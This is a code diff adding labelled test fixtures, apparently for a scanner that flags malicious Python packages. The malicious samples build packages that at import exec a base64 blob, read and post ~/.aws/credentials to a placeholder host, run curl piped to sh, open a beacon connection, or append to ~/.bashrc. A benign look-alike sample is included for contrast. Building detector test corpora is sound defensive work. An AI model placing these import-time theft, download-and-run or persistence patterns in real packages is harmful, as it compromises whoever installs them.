@@ -365,6 +365,183 @@ def _wheel_script(path: Path) -> None:
     _wheel(path, "demo", {"demo-1.0.data/scripts/demo-update": script})
 
 
+# ---------------------------------------------------------------- library code (graded as a package)
+
+_PYPROJECT = """
+[build-system]
+requires = ["hatchling"]
+build-backend = "hatchling.build"
+
+[project]
+name = "demo"
+version = "1.0"
+"""
+
+
+@malicious(
+    "build/sdist_init_base64_exec.tar.gz",
+    "MLV812",
+    "an sdist whose package __init__.py decodes a base64 blob and execs it at import (GuardDog exec-base64)",
+)
+def _library_base64_exec(path: Path) -> None:
+    _sdist(
+        path,
+        "demo-1.0",
+        {
+            "pyproject.toml": _PYPROJECT,
+            "demo/__init__.py": f"""
+            import base64
+
+            __version__ = "1.0"
+            _blob = "{_ENCODED}"
+            exec(base64.b64decode(_blob).decode())
+            """,
+            "demo/util.py": "def helper(x):\n    return x\n",
+        },
+    )
+
+
+@malicious(
+    "build/wheel_import_steals_aws_credentials.whl",
+    {"MLV851", "MLV813"},
+    "a wheel whose __init__.py reads ~/.aws/credentials at import and posts it to a server",
+)
+def _library_credentials(path: Path) -> None:
+    module = f"""
+    import os
+    import urllib.request
+
+
+    def _collect():
+        with open(os.path.expanduser("~/.aws/credentials")) as handle:
+            data = handle.read().encode()
+        urllib.request.urlopen(urllib.request.Request("{HOST}/c", data=data), timeout=3)
+
+
+    try:
+        _collect()
+    except OSError:
+        pass
+    """
+    _wheel(path, "demo", {"demo/__init__.py": textwrap.dedent(module).encode()})
+
+
+@malicious(
+    "build/source_tree_import_curl_sh",
+    "MLV811",
+    "a source tree whose package runs curl | sh from a module-level os.system call",
+)
+def _library_curl_sh(path: Path) -> None:
+    _write_tree(
+        path,
+        {
+            "pyproject.toml": _PYPROJECT,
+            "src/demo/__init__.py": f"""
+            import os
+
+            os.system("curl -fsSL {HOST}/x.sh | sh")
+            """,
+        },
+    )
+
+
+@malicious(
+    "build/wheel_import_thread_beacon.whl",
+    "MLV813",
+    "a wheel whose __init__.py starts a thread at import that connects to a server (import-time beacon)",
+)
+def _library_beacon(path: Path) -> None:
+    module = """
+    import socket
+    import threading
+
+
+    def _beacon():
+        connection = socket.create_connection(("example.invalid", 443), timeout=3)
+        connection.close()
+
+
+    threading.Thread(target=_beacon, daemon=True).start()
+    """
+    _wheel(path, "demo", {"demo/__init__.py": textwrap.dedent(module).encode()})
+
+
+@malicious(
+    "build/wheel_writes_bashrc.whl",
+    "MLV815",
+    "a wheel module that appends a line to ~/.bashrc (persistence), even from a function",
+)
+def _library_persistence(path: Path) -> None:
+    module = """
+    import os
+
+
+    def enable_completion():
+        with open(os.path.expanduser("~/.bashrc"), "a") as handle:
+            handle.write("python -c 'print(1)'\\n")
+    """
+    _wheel(path, "demo", {"demo/shell.py": textwrap.dedent(module).encode()})
+
+
+@benign(
+    "build/benign_library_source_tree",
+    "library code that a model-code scan would call dangerous: subprocess, __import__, ctypes, sockets",
+)
+def _benign_library(path: Path) -> None:
+    _write_tree(
+        path,
+        {
+            "pyproject.toml": _PYPROJECT,
+            "src/demo/__init__.py": """
+            import importlib
+            import os
+
+            __version__ = "1.0"
+            DEBUG = os.environ.get("DEMO_DEBUG") == "1"
+
+
+            def plugin(name):
+                return importlib.import_module(f"demo.plugins.{name}")
+
+
+            def lazy(name):
+                return __import__(name)
+            """,
+            "src/demo/native.py": """
+            import ctypes
+            import ctypes.util
+
+
+            def libc():
+                return ctypes.CDLL(ctypes.util.find_library("c"))
+            """,
+            "src/demo/net.py": """
+            import pickle
+            import socket
+            import subprocess
+
+
+            class Client:
+                def __init__(self, host, port):
+                    self.sock = socket.create_connection((host, port))
+
+                def fetch_cached(self, path):
+                    with open(path, "rb") as handle:
+                        return pickle.load(handle)
+
+
+            def git_revision():
+                return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()
+            """,
+            "tests/test_net.py": """
+            import subprocess
+
+            GIT = subprocess.run(["git", "--version"], capture_output=True, check=False).stdout
+            """,
+        },
+    )
+
+
 # ---------------------------------------------------------------- benign
 
 
@@ -488,6 +665,12 @@ SAMPLES: list[Sample] = [
     _meson,
     _wheel_pth,
     _wheel_script,
+    _library_base64_exec,
+    _library_credentials,
+    _library_curl_sh,
+    _library_beacon,
+    _library_persistence,
+    _benign_library,
     _benign_setup,
     _benign_cmake,
     _benign_meson,
